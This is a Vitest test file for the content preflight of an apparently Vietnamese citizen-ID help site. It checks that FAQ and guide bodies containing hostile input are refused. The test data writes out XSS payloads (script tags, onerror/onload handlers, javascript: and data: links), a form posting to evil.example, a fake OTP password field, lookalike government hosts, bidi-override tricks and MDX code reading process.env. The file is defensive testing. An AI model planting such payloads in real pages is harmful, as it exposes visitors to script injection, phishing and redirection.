// Bad input in Markdown and MDX bodies: raw HTML in every letter case, quoting and encoding, MDX
// code, components outside the allowlist, hostile links. Each case breaks one thing in a copy of
// the real content/ and must be refused by the preflight with the file, the line and the fix.
import { describe, expect, it } from 'vitest';
import { appendBody, copyContent, edit, expectRefused, problemsOf } from '../../support/content-copy';

const FAQ = 'faq/mo-khoa-tai-khoan.md';
const GUIDE = 'guides/kich-hoat-tren-dien-thoai.mdx';

describe('FAQ bodies (Markdown): raw HTML is refused in any form', () => {
  it.each([
    ['upper-case meta refresh', '<META HTTP-EQUIV=REFRESH CONTENT="0;URL=https://evil.example/">', 'có mã HTML'],
    ['mixed-case script', '<ScRiPt>location="https://evil.example"</sCrIpT>', 'có mã HTML'],
    ['upper-case link, unquoted', 'Xem <A HREF=https://evil.example>đây</A>.', 'có mã HTML'],
    ['single-quoted attributes', "<a href='https://evil.example'>đây</a>", 'có mã HTML'],
    ['an image with an event handler', '<img src=x onerror=alert(1)>', 'có mã HTML'],
    ['an SVG with onload', '<svg onload="alert(1)"></svg>', 'có mã HTML'],
    ['an iframe', '<iframe src="https://evil.example/"></iframe>', 'có mã HTML'],
    ['a password field asking for the OTP', '<INPUT TYPE=PASSWORD PLACEHOLDER="Nhập mã OTP">', 'có mã HTML'],
    ['a form that posts', '<form method=post action="https://evil.example/"><button>Gửi</button></form>', 'có mã HTML'],
    ['an HTML comment', '<!-- <script>alert(1)</script> -->', 'có mã HTML'],
    ['a doctype declaration', '<!DOCTYPE html>', 'có mã HTML'],
    ['a processing instruction', '<?xml-stylesheet href="https://evil.example/x.xsl"?>', 'có mã HTML'],
    ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>', 'có mã HTML'],
    ['a style block', '<STYLE>body{background:url(https://evil.example/t.png)}</STYLE>', 'có mã HTML'],
    ['an object tag', '<object data="https://evil.example/x.swf"></object>', 'có mã HTML'],
    ['a base tag', '<base href="https://evil.example/">', 'có mã HTML'],
    ['a closing tag alone', 'Chữ </div> lạc.', 'có mã HTML'],
    ['a tag with a newline inside', '<a\nhref="https://evil.example">x</a>', 'có mã HTML'],
  ])('%s', (_what, body, phrase) => {
    const dir = copyContent();
    appendBody(dir, FAQ, body);
    expectRefused(problemsOf(dir), [FAQ, 'dòng', phrase]);
  });
});

describe('links in bodies go only to this site or official addresses', () => {
  it.each([
    ['javascript:', '[bấm](javascript:alert(1))', 'javascript:'],
    ['JavaScript: in mixed case', '[bấm](JaVaScRiPt:alert(1))', 'javascript:'],
    ['javascript: hidden by an entity', '[bấm](javascript&#58;alert(1))', 'javascript:'],
    ['data:', '[bấm](data:text/html;base64,PHNjcmlwdD4=)', 'data:'],
    ['vbscript:', '[bấm](vbscript:msgbox(1))', 'vbscript:'],
    ['plain http', '[VNeID](http://vneid.gov.vn/)', 'không bắt đầu bằng https://'],
    ['a lookalike host ending in -gov.vn', '[VNeID](https://vneid-gov.vn/)', 'dẫn ra vneid-gov.vn'],
    ['gov.vn as a subdomain of another host', '[VNeID](https://vneid.gov.vn.evil.example/)', 'dẫn ra vneid.gov.vn.evil.example'],
    ['a name ending in chinhphu.vn that is not its subdomain', '[Nghị định](https://fakechinhphu.vn/nd-69)', 'dẫn ra fakechinhphu.vn'],
    ['chinhphu.vn as a subdomain of another host', '[Nghị định](https://vanban.chinhphu.vn.evil.example/)', 'dẫn ra vanban.chinhphu.vn.evil.example'],
    ['credentials before the host', '[VNeID](https://vneid.gov.vn@evil.example/)', 'tên người dùng, mật khẩu hoặc cổng trong địa chỉ (evil.example)'],
    ['a user on an official host', '[VNeID](https://user:pass@vneid.gov.vn/)', 'tên người dùng, mật khẩu hoặc cổng'],
    ['a protocol-relative link', '[VNeID](//evil.example/)', 'không bắt đầu bằng https://'],
    ['an autolink to another host', '<https://evil.example/>', 'dẫn ra evil.example'],
    ['a reference-style link', '[bấm][x]\n\n[x]: https://evil.example/', 'dẫn ra evil.example'],
    ['a press article', '[bài báo](https://dantri.com.vn/xa-hoi/bai.htm)', 'dẫn ra dantri.com.vn'],
    ['a link shortener', '[bản đồ](https://maps.app.goo.gl/abc)', 'dẫn ra maps.app.goo.gl'],
    ['a missing guide', '[x](/huong-dan/khong-co/)', 'dẫn tới hướng dẫn "khong-co"'],
    ['a missing answer', '[x](/hoi-dap/khong-co/)', 'dẫn tới câu hỏi "khong-co"'],
    ['a relative path', '[x](huong-dan/dang-ky-muc-2/)', 'không phải đường dẫn của trang'],
    ['a path without its last slash', '[x](/phuong-xa)', 'thiếu dấu "/" ở cuối'],
    ['a path no page serves', '[x](/quan-tri-vien/)', 'không phải trang nào của trang này'],
    ['an image from another host (a tracker)', '![](https://evil.example/t.png)', 'có hình ảnh'],
    ['an image of this site', '![ảnh](/og-image.png)', 'có hình ảnh'],
  ])('%s', (_what, body, phrase) => {
    const dir = copyContent();
    appendBody(dir, FAQ, body);
    expectRefused(problemsOf(dir), [FAQ, 'dòng', phrase]);
  });

  it('accepts links to pages of the site, official hosts, a heading and a phone number', () => {
    const dir = copyContent();
    appendBody(dir, FAQ, '[Mức 2](/huong-dan/dang-ky-muc-2/), [tra cứu](/phuong-xa/), [VNeID](https://vneid.gov.vn/), [Nghị định](https://vanban.chinhphu.vn/?pageid=27160&docid=210359), [CH Play](https://play.google.com/store/apps/details?id=com.vnid), [gọi](tel:19000368), [lên đầu](#top), `<script>` trong mã là chữ.\n\n```\n<img onerror=x>\n```');
    expect(problemsOf(dir)).toEqual([]);
  });
});

describe('invisible characters in bodies', () => {
  it.each([
    ['a right-to-left override', 'Gọi \u202E8630 0091\u202C ngay.', 'đảo ngược hướng chữ (RLO) U+202E'],
    ['a zero-width space', 'vneid\u200b.gov.vn', 'khoảng trắng không độ rộng'],
    ['a byte-order mark mid-text', 'Chữ\ufeffđây', 'U+FEFF'],
    ['a line separator', 'Dòng một\u2028dòng hai', 'line separator'],
    ['a NUL character', 'Chữ\u0000đây', 'ký tự điều khiển U+0000'],
    ['an isolate', 'Chữ \u2066đây\u2069', 'cô lập hướng chữ'],
    ['an override written as an entity', 'Gọi &#x202E;8630&#x202C;', 'viết bằng mã ký tự'],
    ['a zero-width joiner written as an entity', 'vneid&#8205;.gov.vn', 'viết bằng mã ký tự'],
  ])('%s', (_what, body, phrase) => {
    const dir = copyContent();
    appendBody(dir, FAQ, body);
    expectRefused(problemsOf(dir), [FAQ, 'dòng', phrase]);
  });
});

describe('guide bodies (MDX): no code, only the allowlisted components with literal props', () => {
  const before = (dir: string, text: string) => edit(dir, GUIDE, (t) => t.replace('## Trước khi bắt đầu', `${text}\n\n## Trước khi bắt đầu`));
  it.each([
    ['an import from node:fs', 'import fs from "node:fs"', 'import/export'],
    ['an export', 'export const x = process.env', 'import/export'],
    ['an expression reading the environment', '{process.env.HOME}', 'có biểu thức {process.env.HOME}'],
    ['an expression inside a paragraph', 'Thư mục: {require("os").homedir()}.', 'có biểu thức'],
    ['an MDX comment', '{/* ghi chú */}', 'có biểu thức'],
    ['a lower-case HTML tag', '<div>chữ</div>', 'có thẻ HTML <div>'],
    ['a script tag in upper case', '<SCRIPT>alert(1)</SCRIPT>', 'có thẻ HTML <SCRIPT> (mã chạy trên trang)'],
    ['a lower-case script tag', '<script>alert(1)</script>', 'có thẻ HTML <script> (mã chạy trên trang)'],
    ['an HTML tag written as a component', '<Iframe src="https://evil.example" />', 'có thẻ HTML <Iframe>'],
    ['an unknown component', '<Banner title="Chú ý" />', 'không có trong danh sách được dùng'],
    ['a misspelt component', '<Stepp title="Bước" />', 'có phải <Step>?'],
    ['a member expression tag', '<a.b />', 'có thẻ HTML <a.b>'],
    ['a fragment', '<>chữ</>', 'có thẻ rỗng'],
    ['a step without a title', '<StepByStep label="x">\n<Step n={9}>Nội dung</Step>\n</StepByStep>', 'thiếu thuộc tính bắt buộc title'],
    ['a step with an empty title', '<Step n={9} title="">Nội dung</Step>', 'thuộc tính title đang trống'],
    ['a step number written as text', '<Step n="một" title="Bước">x</Step>', 'thuộc tính n phải là một số'],
    ['a step number computed', '<Step n={1+1} title="Bước">x</Step>', 'là mã, không phải giá trị'],
    ['a prop read from the environment', '<Step n={process.env.N} title="Bước">x</Step>', 'là mã, không phải giá trị'],
    ['a spread of props', '<Step {...props} title="Bước">x</Step>', 'thuộc tính dạng {…} (mã)'],
    ['an event handler prop', '<Step title="Bước" onClick="alert(1)">x</Step>', 'mã chạy khi bấm hoặc khi tải'],
    ['an unknown prop', '<Step title="Bước" colour="red">x</Step>', 'thuộc tính lạ "colour"'],
    ['a step link to another host', '<Step title="Bước" href="https://evil.example/">x</Step>', 'dẫn ra evil.example'],
    ['a step link that runs code', '<Step title="Bước" href="javascript:alert(1)">x</Step>', 'javascript:'],
    ['a logic value outside the list', '<Step title="Bước" logic="hay">x</Step>', 'phải là một trong: "và", "hoặc"'],
    ['sketch fields in single quotes (code, not JSON)', '<ScreenSketch frame="phone" heading="H" fields={[\'a\']} button="B" caption="C" />', 'là mã, không phải giá trị'],
    ['sketch fields empty', '<ScreenSketch frame="phone" heading="H" fields={[]} button="B" caption="C" />', 'phải là danh sách chữ'],
    ['a sketch frame outside the list', '<ScreenSketch frame="tablet" heading="H" fields={["a"]} button="B" caption="C" />', 'thuộc tính frame phải là một trong'],
    ['a message that does not exist', '<SmsMessage id="khong-co" />', 'không có trong content/messages.yaml'],
    ['a message without its id', '<SmsMessage />', 'thiếu thuộc tính bắt buộc id'],
    ['a standalone component with content', '<HotlineNote>chữ</HotlineNote>', 'không chứa nội dung bên trong'],
    ['a prop with a right-to-left override', '<Checklist title="Mang \u202Etheo">x</Checklist>', 'U+202E'],
    ['a prop with HTML', '<Checklist title="<b>Mang</b>">x</Checklist>', 'có ký tự "<"'],
    ['an unclosed component', '<Step title="Bước">\n\nkhông đóng', 'thiếu thẻ đóng'],
    ['an HTML comment (a parse error in MDX)', '<!-- ghi chú -->', 'ghi chú HTML'],
    ['an autolink (a parse error in MDX)', '<https://vneid.gov.vn>', 'viết link dạng [chữ](https://…)'],
  ])('%s', (_what, text, phrase) => {
    const dir = copyContent();
    before(dir, text);
    expectRefused(problemsOf(dir), [GUIDE, 'dòng', phrase]);
  });
});

describe('size', () => {
  it('refuses a page of 5 MB before parsing it', () => {
    const dir = copyContent();
    appendBody(dir, FAQ, 'Chữ rất dài. '.repeat(400_000));
    expectRefused(problemsOf(dir), [FAQ, 'quá giới hạn 200 KB']);
  });
});
